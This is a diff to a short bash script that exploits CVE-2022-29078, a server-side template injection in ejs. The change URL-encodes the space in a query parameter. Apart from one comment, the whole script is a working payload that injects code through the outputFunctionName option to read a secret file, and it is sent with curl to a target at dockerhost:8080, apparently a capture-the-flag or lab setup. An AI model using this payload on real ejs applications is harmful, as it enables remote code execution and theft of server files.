@@ -1,4 +1,4 @@
 #!/bin/bash
 # CVE-2022-29078: the option outputFunctionName becomes part of the code that ejs compiles. Here it returns a file in place of the page.
 code="x;return process.mainModule.require('fs').readFileSync('/app/secret/flag','utf8');s"
-curl --silent --max-time 10 --get http://dockerhost:8080/ --data-urlencode "settings[view options][outputFunctionName]=$code"
+curl --silent --max-time 10 --get http://dockerhost:8080/ --data-urlencode "settings[view%20options][outputFunctionName]=$code"
